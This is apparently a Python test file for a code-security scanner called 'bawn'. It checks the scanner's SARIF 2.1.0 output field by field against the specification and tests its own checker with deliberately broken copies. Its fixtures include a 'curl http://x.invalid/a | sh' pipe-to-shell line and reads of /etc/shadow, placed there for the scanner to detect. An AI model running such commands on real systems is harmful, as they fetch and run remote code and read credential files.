#!/usr/bin/python3
"""bawn assess --format sarif against what SARIF 2.1.0 requires.

The rules below are written from the specification (OASIS SARIF 2.1.0, sections named in brackets).  With
SARIF_SCHEMA=FILE and python3-jsonschema the document is held against the official schema too."""
import os, re, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from bawntest import *

w = World()
w.file("t/sp ace/ü#%.py", "import os\nx = 'ä'; os.system('a' + 'b')\n")
w.file("t/secret.py", "open('/etc/' + 'shadow')\nopen('/etc/shadow')\nimport hashlib\nhashlib.md5(b'')\n")
w.file("t/get.sh", "curl http://x.invalid/a | sh\n")
w.file("t/clean.js", "console.log(1);\n")
w.file("t/bad.py", b"x = '\xff'\n")
r = w.bawn("assess", "--format", "sarif", "t", w.dir + "/t/get.sh")
equal(r.code, 125, "a file without a verdict is an inability, as ever")
doc = r.json
LEVELS = {"none", "note", "warning", "error"}
URI = re.compile(r"^(file:///)?([A-Za-z0-9._~/!$&'()*+,;=:@-]|%[0-9A-F]{2})*$")
wrong = []


def want(good, where, what):
    if not good:
        wrong.append(f"{where}: {what}")
    return good


def members(o, where, must, may):
    """An object with these members, each of its type, and no others."""
    if not want(isinstance(o, dict), where, "is no object"):
        return {}
    for key in must:
        want(key in o, where, f"has no {key}")
    for key, value in o.items():
        kind = {**must, **may}.get(key)
        if want(kind is not None, where, f"has an unknown member {key}"):
            want(isinstance(value, kind) and not (kind is int and isinstance(value, bool)), f"{where}.{key}", f"is {type(value).__name__}")
    return o


def message(o, where):  # [3.11]
    m = members(o, where, {"text": str}, {"markdown": str, "id": str, "arguments": list, "properties": dict})
    want(m.get("text"), where, "says nothing")


def artifact_location(o, where, artifacts=None):  # [3.4]
    a = members(o, where, {"uri": str}, {"index": int, "uriBaseId": str, "description": dict, "properties": dict})
    want(URI.match(a.get("uri", "")), where, f"{a.get('uri')} is no URI reference")
    want(not re.match(r"^[^/]*:", a.get("uri", "")) or a["uri"].startswith("file:///"), where, "would be read as a scheme")
    if artifacts is not None and "index" in a:
        want(0 <= a["index"] < len(artifacts) and artifacts[a["index"]]["location"]["uri"] == a["uri"], where, "points at another artifact")


def region(o, where):  # [3.30]: lines and columns from 1, the end not before the start
    g = members(o, where, {"startLine": int}, {"startColumn": int, "endLine": int, "endColumn": int, "snippet": dict})
    want(all(v >= 1 for v in g.values()), where, "counts from 0")
    want((g.get("endLine", g["startLine"]), g.get("endColumn", 1 << 30)) >= (g["startLine"], g.get("startColumn", 1)), where, "ends before it starts")


def location(o, where, artifacts=None):  # [3.28], [3.29]
    l = members(o, where, {"physicalLocation": dict}, {"id": int, "message": dict})
    p = members(l.get("physicalLocation"), where + ".physicalLocation", {"artifactLocation": dict}, {"region": dict, "contextRegion": dict})
    artifact_location(p.get("artifactLocation"), where + ".artifactLocation", artifacts)
    if "region" in p:
        region(p["region"], where + ".region")


def descriptor(o, where):  # [3.49]
    d = members(o, where, {"id": str, "shortDescription": dict, "defaultConfiguration": dict, "properties": dict},
                {"name": str, "fullDescription": dict, "help": dict, "helpUri": str})
    for key in ("shortDescription", "fullDescription", "help"):
        if key in d:
            message(d[key], f"{where}.{key}")
    c = members(d.get("defaultConfiguration"), where + ".defaultConfiguration", {"level": str}, {"enabled": bool, "rank": float})
    want(c.get("level") in LEVELS, where, "has no known level")
    more = d.get("properties", {})
    want(isinstance(more.get("tags"), list) and all(isinstance(t, str) for t in more["tags"]) and len(set(more["tags"])) == len(more["tags"]), where, "has bad tags")  # [3.8.2]
    want(all(re.match(r"^external/cwe/cwe-\d{3,}$", t) for t in more["tags"] if "cwe" in t), where, "has a bad CWE tag")
    want(isinstance(more.get("security-severity"), str) and 0 < float(more["security-severity"]) <= 10, where, "has no severity")


def result(o, where, rules, artifacts):  # [3.27]
    x = members(o, where, {"ruleId": str, "ruleIndex": int, "level": str, "message": dict, "locations": list, "partialFingerprints": dict},
                {"kind": str, "properties": dict, "fingerprints": dict})
    want(x.get("level") in LEVELS, where, "has no known level")
    want(0 <= x["ruleIndex"] < len(rules) and rules[x["ruleIndex"]]["id"] == x["ruleId"], where, "points at another rule")
    want(all(isinstance(v, str) and v for v in x["partialFingerprints"].values()), where, "has bad fingerprints")
    message(x["message"], where + ".message")
    for i, l in enumerate(x["locations"]):
        location(l, f"{where}.locations[{i}]", artifacts)


def run(o, where):  # [3.14]
    n = members(o, where, {"tool": dict, "results": list, "artifacts": list, "invocations": list, "columnKind": str}, {"properties": dict, "language": str})
    want(n.get("columnKind") in ("utf16CodeUnits", "unicodeCodePoints"), where, "counts columns in an unknown way")
    t = members(n["tool"], where + ".tool", {"driver": dict}, {"extensions": list})
    d = members(t["driver"], where + ".tool.driver", {"name": str, "version": str, "rules": list},
                {"semanticVersion": str, "fullName": str, "informationUri": str, "properties": dict, "organization": str})
    ids = [x["id"] for x in d["rules"]]
    want(len(set(ids)) == len(ids), where, "describes a rule twice")
    want(re.match(r"^\d+\.\d+\.\d+", d.get("semanticVersion", "0.0.0")), where, "has a bad version")
    for i, x in enumerate(d["rules"]):
        descriptor(x, f"{where}.rules[{i}]")
    for i, a in enumerate(n["artifacts"]):  # [3.24]
        a = members(a, f"{where}.artifacts[{i}]", {"location": dict}, {"sourceLanguage": str, "hashes": dict, "length": int, "properties": dict, "roles": list})
        artifact_location(a["location"], f"{where}.artifacts[{i}].location")
        want(all(re.match(r"^[0-9a-f]{64}$", h) for h in a.get("hashes", {}).values()), where, "has a bad hash")
    for i, v in enumerate(n["invocations"]):  # [3.20]
        v = members(v, f"{where}.invocations[{i}]", {"executionSuccessful": bool}, {"toolExecutionNotifications": list, "exitCode": int, "startTimeUtc": str, "endTimeUtc": str})
        for k, note in enumerate(v.get("toolExecutionNotifications", [])):  # [3.58]
            note = members(note, f"notification {k}", {"message": dict}, {"level": str, "locations": list, "descriptor": dict})
            message(note["message"], f"notification {k}")
            want(note.get("level") in LEVELS, f"notification {k}", "has no known level")
            for l in note.get("locations", []):
                location(l, f"notification {k}")
    for i, x in enumerate(n["results"]):
        result(x, f"{where}.results[{i}]", d["rules"], n["artifacts"])


def check(o):  # [3.13]
    wrong.clear()
    members(o, "sarif", {"version": str, "runs": list}, {"$schema": str, "properties": dict})
    want(o["version"] == "2.1.0", "sarif", "is of another version")
    for i, x in enumerate(o["runs"]):
        run(x, f"runs[{i}]")
    return list(wrong)


equal(check(doc), [], "every object has what the specification requires, and nothing it does not know")
one = doc["runs"][0]
rules = {x["id"]: x for x in one["tool"]["driver"]["rules"]}
LEVEL = {"LOW": "note", "MEDIUM": "warning", "HIGH": "error", "BLOCKED": "error"}
equal({(x["properties"]["level"], x["level"]) for x in one["results"]} - set(LEVEL.items()), set(), "LOW is a note, MEDIUM a warning, HIGH and BLOCKED errors")
ok({x["properties"]["level"] for x in one["results"]} == set(LEVEL), "all four are there")
ok("external/cwe/cwe-078" in rules["python/shell"]["properties"]["tags"] and "security" in rules["python/shell"]["properties"]["tags"], "CWE numbers are tags")
ok(float(rules["bash/pipe-to-shell"]["properties"]["security-severity"]) >= 9 > float(rules["any/secret-read"]["properties"]["security-severity"]) >= 7, "severities follow the levels")
uris = [a["location"]["uri"] for a in one["artifacts"]]
ok("t/sp%20ace/%C3%BC%23%25.py" in uris and any(u.startswith("file:///") for u in uris), "paths are URIs") or diag(uris)
shell = next(x for x in one["results"] if x["ruleId"] == "python/shell")
equal(shell["locations"][0]["physicalLocation"]["region"], {"startLine": 2, "startColumn": 10, "endLine": 2, "endColumn": 30}, "columns are characters from 1, the end exclusive")
ok(not one["invocations"][0]["executionSuccessful"] and one["invocations"][0]["toolExecutionNotifications"][0]["descriptor"]["id"] == "bad_utf8",
   "what could not be assessed is a notification")
prints = [json.dumps(x["partialFingerprints"]) for x in one["results"]]
equal(len(set(prints)), len(prints), "no two findings have the same fingerprint")
w.file("t/secret.py", "\n\n\nopen('/etc/' + 'shadow')\nopen('/etc/shadow')\nimport hashlib\nhashlib.md5(b'')\n")
moved = w.bawn("assess", "--format", "sarif", "t", w.dir + "/t/get.sh").json["runs"][0]
equal([json.dumps(x["partialFingerprints"]) for x in moved["results"]], prints, "and they stay when lines move")
os.remove(w.dir + "/t/bad.py")
clean = w.bawn("assess", "--format", "sarif", "t/clean.js").json
equal((check(clean), clean["runs"][0]["results"], clean["runs"][0]["invocations"][0]["executionSuccessful"]), ([], [], True), "a clean file is a run without results")

# The checker itself is worth something only if it finds mistakes.
for name, spoil in (("a column of 0", lambda d: d["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"].update(startColumn=0)),
                    ("an index that points elsewhere", lambda d: d["runs"][0]["results"][0].update(ruleIndex=99)),
                    ("an unknown level", lambda d: d["runs"][0]["results"][0].update(level="fatal")),
                    ("a path that is no URI", lambda d: d["runs"][0]["artifacts"][0]["location"].update(uri="a b")),
                    ("an unknown member", lambda d: d["runs"][0].update(colour="red"))):
    copy = json.loads(json.dumps(doc))
    spoil(copy)
    ok(check(copy), f"the checker notices {name}")

schema = os.environ.get("SARIF_SCHEMA")
if schema:
    import jsonschema
    with open(schema) as f:
        official = json.load(f)
    errors = jsonschema.validators.validator_for(official)(official, format_checker=jsonschema.FormatChecker()).iter_errors(doc)
    equal([f"{e.json_path}: {e.message[:200]}" for e in errors], [], "the document is valid against the official schema")
done()
